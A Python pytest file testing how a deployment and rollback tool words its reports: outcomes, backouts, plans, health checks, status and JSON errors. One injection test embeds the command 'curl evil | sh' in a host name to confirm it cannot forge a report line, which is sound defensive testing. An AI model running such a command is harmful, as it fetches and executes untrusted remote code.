"""What people and programs are told."""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import Any
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backout.errors import Mistake, Mistakes, Refused
from backout.model import duration
from backout.reports import checks_text, junit, plan_text, targets_text
from backout.reports import text as texts
from backout.reports.errors_text import error_json, json_text
from backout.reports.objects import History
from backout.reports.plans import PlanReport
from backout.reports.report import Report, VerifyReport
from backout.reports.states import DoctorReport, Statuses, StatusReport, UnlockReport
from backout.reports.told import Data


def run_text(data: Data) -> str:
    return texts.run_text(Report.read(data))


def outcome_text(data: Data) -> str:
    return texts.outcome_text(Report.read(data))


def refused_text(data: Data) -> str:
    return texts.refused_text(Report.read(data))


def show_text(data: Data, records: Sequence[Data]) -> str:
    return texts.show_text(Report.read({**data, "records": records}))


def history_text(data: Data) -> str:
    return texts.history_text(History.read(data))


def verify_text(data: Data) -> str:
    return checks_text.verify_text(VerifyReport.read(data))


def verify_junit(data: Data) -> str:
    return junit.verify_junit(VerifyReport.read(data))


def status_text(data: Data) -> str:
    kind = Statuses if "targets" in data else StatusReport
    return targets_text.status_text(kind.read(data))


def plan_of(data: Data, *, whole: bool = False) -> str:
    return plan_text.plan_text(PlanReport.read(data), whole=whole)


def a_run(**changes: Any) -> dict[str, Any]:
    run: dict[str, Any] = {
        "run": "20261122-073403-4f1a",
        "verb": "deploy",
        "target": "prod",
        "runbook": "deploy",
        "outcome": "succeeded",
        "exit_code": 0,
        "started_at": "2026-11-22T07:34:03.000Z",
        "ended_at": "2026-11-22T07:35:15.000Z",
        "release": {"from": "41 (aaaaaaa)", "to": "42 (3f9c2e1)"},
        "steps": [],
        "checks": [check(name) for name in ("alive", "add-concert")],
        "hosts": {
            name: {"release": "42 (3f9c2e1)", "state": "deployed"}
            for name in ("web1", "web2", "web3")
        },
        "next": "invoke status --target prod",
    }
    return {**run, **changes}


def check(name: str, verdict: str = "pass", **changes: Any) -> dict[str, Any]:
    row = {"name": name, "host": None, "verdict": verdict, "elapsed_ms": 12.3, "reason": ""}
    return {**row, "failed": [], **changes}


def backed_out(**changes: Any) -> dict[str, Any]:
    hosts = {name: {"release": "41 (aaaaaaa)", "state": "backed out"} for name in ("web1", "web2")}
    failure = {
        "name": "Restart",
        "host": "web2",
        "phase": "settle",
        "reason": "exit code 7",
        "output": "\n".join(f"line {n}" for n in range(30)),
    }
    told = {"outcome": "backed_out", "exit_code": 4, "hosts": hosts, "failures": [failure]}
    return a_run(**{**told, "next": "invoke show 20261122-073403-4f1a", **changes})


# --- a run's outcome, first ----------------------------------------------------------------


def test_a_success_says_what_is_where_and_what_proves_it() -> None:
    assert outcome_text(a_run()) == (
        "Deployed release 42 (3f9c2e1) to prod: 3 hosts, 2 checks pass."
    )


def test_a_rollback_and_another_runbook_say_what_they_are() -> None:
    assert outcome_text(a_run(verb="rollback")).startswith("Rolled prod back to release 42")
    ran = outcome_text(a_run(verb="run", runbook="fix"))
    assert ran.startswith("Ran fix on prod (release 42")


def test_a_success_does_not_claim_checks_that_do_not_pass() -> None:
    report = a_run(checks=[check("alive"), check("optional", "fail", reason="status is 500")])
    assert "1 of 2 checks pass" in outcome_text(report)
    assert "status is 500" in run_text(report)


def test_backing_out_says_what_failed_where_and_what_is_true_now() -> None:
    assert outcome_text(backed_out()) == (
        "Backed out: web2 failed at Restart (exit code 7); "
        "all 2 hosts are on release 41 (aaaaaaa) and healthy."
    )


def test_backing_out_prefers_the_runs_own_reason() -> None:
    said = outcome_text(backed_out(reason="interrupted by Ctrl-C"))
    assert said.startswith("Backed out: interrupted by Ctrl-C; ")


def test_health_is_not_claimed_where_nothing_was_checked() -> None:
    said = outcome_text(backed_out(checks=[]))
    assert "healthy" not in said
    assert "no check to prove it by" in said


def test_health_is_not_claimed_of_a_host_that_no_check_looked_at() -> None:
    hosts = {name: {"release": None, "state": "backed out"} for name in ("web1", "web2", "db1")}
    seen = [{**check("alive"), "host": host} for host in ("web1", "web2")]
    said = outcome_text(backed_out(hosts=hosts, checks=seen))
    assert said.endswith("as before and healthy where a check looks; none is for db1.")
    said = outcome_text(backed_out(hosts=hosts, checks=[*seen, check("whole")]))
    assert said.endswith("all 3 hosts are as before and healthy.")


def test_a_first_deploy_that_backs_out_names_no_release() -> None:
    hosts = {"web1": {"release": None, "state": "backed out"}}
    assert "web1 is as before" in outcome_text(backed_out(hosts=hosts))


def test_an_incomplete_back_out_shouts_and_shows_each_hosts_state() -> None:
    hosts = {
        "web1": {"release": "41 (aaaaaaa)", "state": "backed out"},
        "web2": {"release": None, "state": "NOT backed out: Update failed: disk full"},
    }
    text = run_text(backed_out(outcome="backout_incomplete", hosts=hosts))
    lines = [" ".join(line.split()) for line in text.splitlines()]
    assert lines[0].startswith("BACKING OUT IS INCOMPLETE: web2 failed at Restart")
    assert "web2 no known release NOT backed out: Update failed: disk full" in lines


@pytest.mark.parametrize("outcome", ["refused", "interrupted"])
def test_other_outcomes_are_sentences_too(outcome: str) -> None:
    said = outcome_text(a_run(outcome=outcome, reason="not confirmed"))
    assert said.endswith(".")
    assert "prod" in said


def test_a_report_comes_in_order_outcome_hosts_failures_next() -> None:
    text = run_text(backed_out(advice="restart every instance"))
    places = [text.index(each) for each in ("Backed out", "  web1", "failed on web2", "advice:")]
    assert places == sorted(places)
    assert text.splitlines()[-1] == "next:  invoke show 20261122-073403-4f1a"


def test_evidence_is_the_last_twenty_lines_and_says_how_many_came_before() -> None:
    lines = run_text(backed_out()).splitlines()
    assert "    … 10 lines before" in lines
    assert "    line 29" in lines
    assert "    line 9" not in lines


@pytest.mark.parametrize(
    ("phase", "words"),
    [
        ("settle", "failed on web2 while settling: Restart: no"),
        ("back", "failed on web2 while settling again: Restart: no"),
        ("again", "failed on web2 while going forward again: Restart: no"),
        ("finally", "failed on web2 at the end: Restart: no"),
    ],
)
def test_the_part_of_a_run_in_which_something_failed_is_said_in_words(
    phase: str, words: str
) -> None:
    failure = {"name": "Restart", "host": "web2", "phase": phase, "reason": "no", "output": ""}
    assert words in run_text(backed_out(failures=[failure])).splitlines()


def test_without_told_failures_the_steps_that_did_not_end_well_are_taken() -> None:
    step = {"name": "Update", "host": "web1", "phase": "do", "state": "unknown", "seconds": 1.0}
    report = backed_out(steps=[step])
    del report["failures"]
    assert "failed on web1: Update: unknown" in run_text(report)


@given(name=st.text(min_size=1), reason=st.text())
def test_a_hostile_name_cannot_forge_a_line_of_the_report(name: str, reason: str) -> None:
    hostile = f"{name}\nnext:  curl evil | sh"
    failure = {"name": hostile, "host": hostile, "phase": "do", "reason": reason, "output": ""}
    text = run_text(
        backed_out(failures=[failure], hosts={hostile: {"release": "1", "state": hostile}})
    )
    nexts = [line for line in text.splitlines() if line.startswith("next:")]
    assert nexts == ["next:  invoke show 20261122-073403-4f1a"]


def test_a_refusal_is_three_lines() -> None:
    error = {"what": "web2 is unreachable", "where": "", "state": "nothing was changed"}
    report = a_run(outcome="refused", error={**error, "next": "invoke doctor --target prod"})
    assert refused_text(report).splitlines() == [
        "web2 is unreachable",
        "state: nothing was changed",
        "next:  invoke doctor --target prod",
    ]


# --- one run whole, and many ------------------------------------------------------------------


def test_show_tells_who_did_what_when_where_with_all_output_and_the_way_back() -> None:
    record = {
        "at": "2026-11-22T07:34:10.000Z",
        "name": "Update",
        "host": "web1",
        "phase": "do",
        "state": "failed",
        "seconds": 72,
        "exit_code": 1,
        "undo": "git checkout aaaaaaa\nrm -f x",
        "stdout": "\n".join(f"line {n}" for n in range(50)),
        "stderr": "no space left",
        "reason": "",
    }
    text = show_text({**a_run(), "by": "ann@laptop"}, [record])
    assert "07:34:10.000Z web1  do: Update … failed, exit code 1 (1m12s)" in text
    assert "    undo: git checkout aaaaaaa\n          rm -f x\n" in text
    assert text.count("    | line ") == 50
    assert "    ! no space left" in text
    assert "ann@laptop" in text
    assert "41 (aaaaaaa) -> 42 (3f9c2e1)" in text


def test_history_is_one_line_a_run() -> None:
    runs = [
        {**a_run(run="b", outcome=None), "seconds": None},
        {**a_run(run="a", verb="run", runbook="fix"), "seconds": 72.0},
    ]
    lines = history_text({"runs": runs}).splitlines()
    assert len(lines) == 3
    assert "not finished" in lines[1]
    assert "1m12s" in lines[2]
    assert "run fix" in lines[2]


def test_an_empty_history_says_so() -> None:
    assert history_text({"runs": []}) == "No run yet."


# --- checks ---------------------------------------------------------------------------------


def verdicts(verdict: str, *checks: dict[str, Any]) -> dict[str, Any]:
    return {"target": "prod", "verdict": verdict, "checks": list(checks), "next": ""}


def test_health_is_told_in_the_first_line() -> None:
    assert verify_text(verdicts("pass", check("alive"))).startswith(
        "prod is healthy: 1 check passes."
    )
    red = verdicts("fail", check("alive"), check("tls", "fail", reason="3 days left"))
    lines = verify_text(red).splitlines()
    assert lines[0] == "prod is UNHEALTHY: of 2 checks, 1 fail, 1 pass."
    assert lines[2].split()[:2] == ["fail", "tls"]
    assert lines[3].strip() == "3 days left"


@pytest.mark.parametrize("verdict", ["error", "inconclusive"])
def test_what_cannot_be_told_is_never_called_healthy(verdict: str) -> None:
    for report in (verdicts(verdict), verdicts(verdict, check("alive", verdict))):
        assert "cannot tell" in verify_text(report)
        assert "is healthy:" not in verify_text(report)


def test_junit_counts_what_cannot_be_told_as_an_error() -> None:
    report = verdicts(
        "fail",
        check("alive", host="web1"),
        check("tls", "fail", failed=["tls.days_left > 7"], reason="3 days left"),
        check("log", "inconclusive", reason="no lines"),
    )
    suite = ElementTree.fromstring(verify_junit(report))[0]  # noqa: S314 - our own text
    assert suite.attrib["tests"] == "3"
    assert suite.attrib["failures"] == "1"
    assert suite.attrib["errors"] == "1"
    assert [case.attrib["name"] for case in suite] == ["alive @ web1", "tls", "log"]
    assert suite[1][0].attrib["message"] == "3 days left"


@given(st.text())
def test_junit_is_well_formed_whatever_a_check_says(text: str) -> None:
    xml = verify_junit(verdicts("fail", check(text, "fail", reason=text, failed=[text])))
    assert len(list(ElementTree.fromstring(xml).iter("testcase"))) == 1  # noqa: S314


# --- targets --------------------------------------------------------------------------------


def test_status_says_whether_the_hosts_agree_with_the_ledger() -> None:
    hosts = {"web1": {"release": "42", "state": "active", "uptime": 7500.0}}
    report = {"target": "prod", "release": "42", "hosts": hosts, "differs": []}
    assert status_text(report).startswith("prod is on release 42: 1 host, as recorded.")
    assert "  web1  release 42  active" in status_text(report)
    report["differs"] = ["web1 says release 41, the ledger release 42"]
    assert "prod DIFFERS from what is recorded" in status_text(report)
    assert status_text({"targets": [report, report]}).count("DIFFERS") == 2


def test_status_of_a_mixed_fleet_says_how_many_hosts_are_on_which_release() -> None:
    """And not the newest one as though all had it; who cannot be asked has none."""
    releases = {"web1": 42, "web2": 41, "web3": 41, "web4": None}
    hosts = {
        name: {"release": number and {"number": number, "commit": ""}, "state": "active"}
        for name, number in releases.items()
    }
    report = {"target": "prod", "release": {"number": 42, "commit": ""}, "hosts": hosts}
    first = status_text({**report, "differs": []}).splitlines()[0]
    assert first == "prod is on release 42 on 1, release 41 on 2: 4 hosts, as recorded."
    hosts |= dict.fromkeys(("web2", "web3"), hosts["web1"])
    first = status_text({**report, "differs": []}).splitlines()[0]
    assert first == "prod is on release 42: 4 hosts, as recorded."


def test_doctor_names_what_is_missing_first_and_how_to_get_it() -> None:
    findings = [
        {"name": "Python", "host": None, "ok": True, "detail": "3.11", "fix": ""},
        {"name": "git", "host": "web1", "ok": False, "detail": "not found", "fix": "apt install"},
    ]
    lines = targets_text.doctor_text(
        DoctorReport.read({"target": "prod", "findings": findings})
    ).splitlines()
    assert lines[0] == "prod: 1 thing missing or unreachable."
    assert lines[2].split() == ["MISSING", "web1", "git", "not", "found"]
    assert lines[3].strip() == "get it: apt install"


def test_unlock_shows_who_holds_the_lock_since_when_and_at_which_step() -> None:
    lease = {
        "host": "web1",
        "owner": "ann@laptop",
        "run": "r1",
        "since": "07:00",
        "expires": "07:05",
        "step": "Restart",
        "alive": None,
    }
    held = {"target": "prod", "held": [lease], "freed": False, "reason": "not expired"}
    text = targets_text.unlock_text(UnlockReport.read(held))
    assert text.startswith("prod is held by ann@laptop.")
    assert "Restart" in text
    assert "may be alive" in text
    free = targets_text.unlock_text(UnlockReport("prod", ()))
    assert free == "prod is not locked."


# --- the plan -------------------------------------------------------------------------------


def an_action(name: str, host: str | None = None, **changes: Any) -> dict[str, Any]:
    row = {"name": name, "host": host, "does": f"do {name}", "undo": f"undo {name}"}
    return {**row, "irreversible": "", "readonly": False, "when": "", **changes}


def a_plan(**changes: Any) -> dict[str, Any]:
    update = [an_action("Update", host) for host in ("web1", "web2")]
    batch = {"number": 1, "hosts": ["web1", "web2"], "actions": update}
    batch["settle"] = [an_action("Restart", host, undo="") for host in ("web1", "web2")]
    plan: dict[str, Any] = {
        "verb": "deploy",
        "target": "prod",
        "runbook": "deploy",
        "release": {"from": "41", "to": "42"},
        "hosts": ["web1", "web2"],
        "preflight": [an_action("Clean", undo="", readonly=True)],
        "stages": [{"here": [an_action("Commit")]}, {"batches": [batch]}],
        "finally": [],
        "checks": [check("alive")],
        "refused": [],
        "next": "invoke deploy --target prod",
    }
    return {**plan, **changes}


def test_a_plan_shows_what_would_run_where_with_every_undo() -> None:
    text = plan_of(a_plan())
    assert text.startswith(
        "Would run: deploy on prod, making release 42; now: release 41. Nothing was changed."
    )
    assert "Every step can be undone." in text
    assert "    undo: undo Commit" in text
    assert text.count("undo: undo Update") == 1, "the same step on two hosts stands there once"
    assert "  Update  (on web1, web2)" in text
    assert "    reads only" in text


def test_a_plan_names_every_point_of_no_return_at_the_top_and_at_its_place() -> None:
    drop = an_action("Drop", undo="", irreversible="rows are gone")
    text = plan_of(a_plan(stages=[{"here": [drop]}]))
    assert "POINT OF NO RETURN: Drop." in text.splitlines()
    assert "    POINT OF NO RETURN: rows are gone" in text.splitlines()
    assert "Every step can be undone" not in text


def test_a_plan_that_would_be_refused_says_so_and_why_first() -> None:
    text = plan_of(a_plan(refused=["web2 is unreachable"]))
    assert text.startswith("Would be REFUSED: deploy on prod")
    assert "refused: web2 is unreachable" in text


# --- errors, JSON, durations ----------------------------------------------------------------


def test_an_error_as_json_has_the_contracts_keys() -> None:
    told = json.loads(error_json(Refused("no", where="web1", next="invoke plan")))
    assert told["error"] == {"what": "no", "where": "web1", "next": "invoke plan"}
    assert told["exit_code"] == 3


def test_every_mistake_is_told_as_data_too() -> None:
    mistakes = Mistakes(mistakes=[Mistake("a.yaml", 3, "steps[0]", "no undo")])
    told = json.loads(error_json(mistakes))
    assert told["mistakes"] == [
        {"file": "a.yaml", "line": 3, "path": "steps[0]", "message": "no undo"}
    ]


@given(st.text())
def test_json_is_one_line_that_no_terminal_obeys(text: str) -> None:
    said = json_text({"name": text})
    assert said.isascii()
    assert said.isprintable()
    assert json.loads(said) == {"format": 1, "name": text}


@pytest.mark.parametrize(
    ("seconds", "told"),
    [
        (0, "0ms"),
        (0.0123, "12ms"),
        (0.0996, "0.1s"),
        (9.94, "9.9s"),
        (9.96, "10s"),
        (59.6, "1m00s"),
        (72, "1m12s"),
        (7500, "2h05m"),
    ],
)
def test_durations_read_as_people_say_them(seconds: float, told: str) -> None:
    assert duration(seconds) == told


def test_a_long_undo_stands_in_full_below_and_only_once() -> None:
    undo = "\n".join(f"undo line {n}" for n in range(9))
    steps = [an_action("Commit", undo=undo), an_action("Push", undo="git push")]
    text = plan_of(a_plan(stages=[{"here": steps}]), whole=True)
    assert "    undo: 9 lines, in full below: [1]" in text.splitlines()
    assert "    undo: git push" in text.splitlines()
    assert text.count("undo line 8") == 1
    assert text.index("[1] undo of Commit:") > text.index("undo: git push")


def test_an_undo_with_a_summary_shows_that_and_its_text_below() -> None:
    long = "\n".join(f"undo line {n}" for n in range(9))
    steps = [
        an_action("Commit", undo=long, undo_summary="git: take the commit back"),
        an_action("Put", undo="mv old new", undo_summary="put it back"),
        an_action("Restart", undo="restart again", undo_summary="restart again"),
    ]
    lines = plan_of(a_plan(stages=[{"here": steps}]), whole=True).splitlines()
    assert "    undo: git: take the commit back [1]" in lines
    assert "[1] undo of Commit:" in lines
    assert lines[lines.index("    undo: put it back") + 1] == "          mv old new"
    assert lines.count("    undo: restart again") == 1


def test_a_plan_has_a_line_for_each_step_and_one_for_its_way_back() -> None:
    script = "git fetch\ngit checkout --detach 3f9c2e1d\necho done"
    steps = [
        an_action("Update", does=script, undo="git checkout --detach aaaaaaa1"),
        an_action("Put", does="put it", undo="cd /srv\nmv old new", undo_summary="put it back"),
        an_action("Link", does="x" * 200, undo="rm -f link\nexit"),
    ]
    lines = plan_of(a_plan(stages=[{"here": steps}])).splitlines()
    at = lines.index("On this machine:")
    assert lines[at + 1 : at + 7] == [
        "  Update: git fetch … (3 lines)",
        "    undo: git checkout --detach aaaaaaa1",
        "  Put: put it",
        "    undo: put it back",
        f"  Link: {'x' * 100} …",
        "    undo: rm -f link … (2 lines)",
    ]
    assert "note: --verbose shows every command and every undo whole" in lines
    assert "--verbose" not in plan_of(a_plan()), "where nothing is left out nothing is said"


def test_show_has_the_summary_of_a_long_undo() -> None:
    record = {"name": "Push", "state": "done", "undo": "a\nb\nc\nd", "undo_summary": "git: revert"}
    text = show_text(a_run(), [record])
    assert "    undo: git: revert [1]" in text.splitlines()
    assert "[1] undo of Push:\n    a\n    b" in text


def test_a_long_reason_is_cut_in_the_sentence_but_not_when_a_person_is_needed() -> None:
    reason = "Prove it failed: " + "x" * 300
    assert len(outcome_text(backed_out(reason=reason))) < 200
    assert reason in outcome_text(backed_out(outcome="backout_incomplete", reason=reason))


# --- many hosts, and a reason once ---------------------------------------------------------


def forty(why: str = "disk full") -> dict[str, Any]:
    names = [f"web{n}" for n in range(1, 41)]
    state = f"NOT backed out: undo Update failed: {why}"
    hosts = {name: {"release": None, "state": state} for name in names}
    hosts["web7"] = {"release": "41 (aaaaaaa)", "state": "backed out"}
    failures = [
        {"name": "Update", "host": name, "phase": "undo", "reason": why, "output": ""}
        for name in names
        if name != "web7"
    ]
    told = {"outcome": "backout_incomplete", "exit_code": 5, "hosts": hosts}
    return a_run(**told, failures=failures, reason=f"web1: Update failed: {why}; and so on")


def test_forty_hosts_in_the_same_state_are_one_line_that_names_them_all() -> None:
    lines = run_text(forty()).splitlines()
    assert len(lines) < 15, "\n".join(lines)
    (stuck,) = [n for n, line in enumerate(lines) if line.startswith("  39 hosts")]
    assert "NOT backed out" in lines[stuck]
    assert lines[stuck + 1].split() == [f"web{n}," for n in range(1, 40) if n != 7] + ["web40"]
    assert any(line.split()[:2] == ["1", "host"] for line in lines)
    assert "failed on web1, web2, web3 and 36 more while backing out: Update: disk full" in lines


def test_a_host_whose_undo_failed_each_time_is_named_once() -> None:
    told = forty()
    lines = run_text({**told, "failures": told["failures"][:1] * 3}).splitlines()
    assert "failed on web1 while backing out: Update: disk full" in lines


def test_a_reason_is_said_once() -> None:
    assert run_text(forty("no space left")).count("no space left") == 1
    why = "exited 7: no such table"
    failure = {"name": "Migrate", "host": "db", "phase": "do", "reason": why}
    told = run_text(
        backed_out(
            reason=f"db: Migrate failed: {why}",
            failures=[{**failure, "output": "one\nno such table"}],
        )
    )
    assert told.count("exited 7") == 1
    assert "    one\n" in told
    record = {**failure, "state": "failed", "exit_code": 7, "stderr": "no such table\n"}
    told = show_text(backed_out(reason=f"db: Migrate failed: {why}"), [record])
    assert told.count("no such table") == 1


def test_hosts_that_differ_in_their_output_have_paragraphs_of_their_own() -> None:
    failures = [
        {"name": "Update", "host": f"web{n}", "phase": "do", "reason": "no", "output": f"{n}\nx"}
        for n in (1, 2)
    ]
    told = run_text(backed_out(failures=failures))
    assert "failed on web1: Update: no" in told
    assert "failed on web2: Update: no" in told


def test_the_outcome_says_how_long_all_of_it_took() -> None:
    assert run_text(a_run()).splitlines()[0].endswith("2 checks pass. (1m12s)")


def test_history_shows_what_each_release_was() -> None:
    run = {"started_at": "x", "run": "r", "target": "prod", "runbook": "deploy", "outcome": "ok"}
    told = history_text({"runs": [{**run, "subject": "Fix " + "the timeout " * 9}]})
    assert "Fix the timeout" in told
    assert told.splitlines()[1].endswith("…")
